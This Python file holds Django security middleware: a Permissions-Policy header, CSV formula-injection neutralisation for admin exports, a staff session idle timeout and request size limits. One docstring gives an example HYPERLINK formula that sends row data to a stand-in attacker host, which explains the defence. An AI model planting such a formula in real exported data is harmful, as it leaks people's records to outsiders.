"""Small security measures that apply to every response or every staff request."""

import codecs
import csv
import logging
import re

from django.conf import settings
from django.core.exceptions import RequestDataTooBig, TooManyFieldsSent, TooManyFilesSent
from django.http import FileResponse, HttpResponse
from django.template import loader

logger = logging.getLogger(__name__)

# Where portal/urls.py mounts Wagtail's admin, which keeps its own, higher limits.
ADMIN_PREFIX = "/admin/"

# The portal uses no camera, microphone, location or payment APIs: say so to the browser.
PERMISSIONS_POLICY = "camera=(), microphone=(), geolocation=(), payment=(), usb=(), interest-cohort=()"


class PermissionsPolicyMiddleware:
    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        response = self.get_response(request)
        response.headers.setdefault("Permissions-Policy", PERMISSIONS_POLICY)
        return response


class SpreadsheetFormulaMiddleware:
    """No cell of a CSV the admin writes starts a formula when the file is opened in a spreadsheet.

    Wagtail writes every CSV of the admin (the requests export, its own reports: site
    history, aging and locked pages, workflows) with the values as they are, and some are
    typed by staff: a locality named `=HYPERLINK("http://evil.example/?"&A2,"Kliknij")`
    becomes a link that sends the row away. Excel and LibreOffice read a cell starting
    with = + - @, a tab or a carriage return as a formula; such a cell gets a single quote
    in front (OWASP, "CSV Injection"), which spreadsheets show as text. So does a value's
    part after a comma, semicolon or tab, where a spreadsheet set to split on that
    character (a Polish Excel splits on ";") would start a new cell. Done here, on the way
    out, so that every CSV Wagtail writes now or later is covered without copying its
    views. XLSX needs nothing: Wagtail stores each value there as text.
    """

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        response = self.get_response(request)
        if (
            request.path.startswith(ADMIN_PREFIX)
            and response.get("Content-Type", "").startswith("text/csv")
            and not isinstance(response, FileResponse)
        ):
            if response.streaming:
                response.streaming_content = _neutralised_csv(response.streaming_content, response.charset)
            else:
                response.content = b"".join(_neutralised_csv([response.content], response.charset))
                if response.has_header("Content-Length"):
                    response["Content-Length"] = str(len(response.content))
        return response


FORMULA_CELL_START = re.compile(r"(^|[,;\t])(?=[=+\-@\t\r])")


def neutralise_cell(value):
    return FORMULA_CELL_START.sub(r"\1'", value)


class _Echo:
    def write(self, value):
        return value


def _csv_lines(chunks, charset):
    """The text of the chunks, line by line (a multi-byte character may be cut between chunks)."""
    decoder = codecs.getincrementaldecoder(charset)()
    pending = ""
    for chunk in chunks:
        pending += decoder.decode(chunk)
        *complete, pending = pending.split("\n")
        for line in complete:
            yield line + "\n"
    pending += decoder.decode(b"", final=True)
    if pending:
        yield pending


def _neutralised_csv(chunks, charset):
    # Read back and written again in the dialect it was written in (the csv module's
    # default, as Wagtail uses it), so quoted line breaks and commas stay inside their cells.
    writer = csv.writer(_Echo())
    for row in csv.reader(_csv_lines(chunks, charset)):
        yield writer.writerow([neutralise_cell(cell) for cell in row]).encode(charset)


class StaffIdleTimeoutMiddleware:
    """Staff sessions end after STAFF_SESSION_IDLE_SECONDS without a request.

    Applicants keep the longer default, so that someone filling in the form slowly,
    in a hard moment, does not lose their answers.
    """

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        user = getattr(request, "user", None)
        if user is not None and user.is_authenticated:
            request.session.set_expiry(settings.STAFF_SESSION_IDLE_SECONDS)
        return self.get_response(request)


class RequestLimitsMiddleware:
    """Refuses bodies the public site has no use for, before anything else reads them.

    A step of the request form is a few kilobytes in a few fields; far more is a bot or
    a broken client. Outside the admin, a Content-Length over PUBLIC_MAX_BODY_SIZE gets
    413 and more than PUBLIC_MAX_NUMBER_FIELDS fields get 400, each with a short static
    Polish page that needs no database. The admin may send ADMIN_MAX_BODY_SIZE (document
    uploads) and Django's own field limit. A chunked body has no Content-Length: Django's
    limits (DATA_UPLOAD_MAX_MEMORY_SIZE and DATA_UPLOAD_MAX_NUMBER_FIELDS) stop it while it
    is read here, and it is answered the same way.
    """

    def __init__(self, get_response):
        self.get_response = get_response

    def __call__(self, request):
        in_admin = request.path.startswith(ADMIN_PREFIX)
        try:
            length = int(request.META.get("CONTENT_LENGTH") or 0)
        except ValueError:
            length = -1
        if length < 0:
            # Django itself would fail on it later, with a server error.
            return _static_page("400.html", 400)
        if length > (settings.ADMIN_MAX_BODY_SIZE if in_admin else settings.PUBLIC_MAX_BODY_SIZE):
            # The path never holds personal data (names travel in POST bodies only).
            logger.warning("Refused a %s-byte body to %s", length, request.path)
            return _static_page("413.html", 413)
        if not in_admin:
            try:
                fields = sum(len(values) for data in (request.GET, request.POST, request.FILES) for _, values in data.lists())
            except RequestDataTooBig:
                return _static_page("413.html", 413)
            except (TooManyFieldsSent, TooManyFilesSent):
                fields = None
            if fields is None or fields > settings.PUBLIC_MAX_NUMBER_FIELDS:
                logger.warning("Refused a request with too many fields to %s", request.path)
                return _static_page("400_too_many_fields.html", 400)
        return self.get_response(request)


def _static_page(template_name, status):
    response = HttpResponse(loader.get_template(template_name).render(), status=status)
    # Answered above XFrameOptionsMiddleware, which would otherwise add this.
    response["X-Frame-Options"] = settings.X_FRAME_OPTIONS
    return response
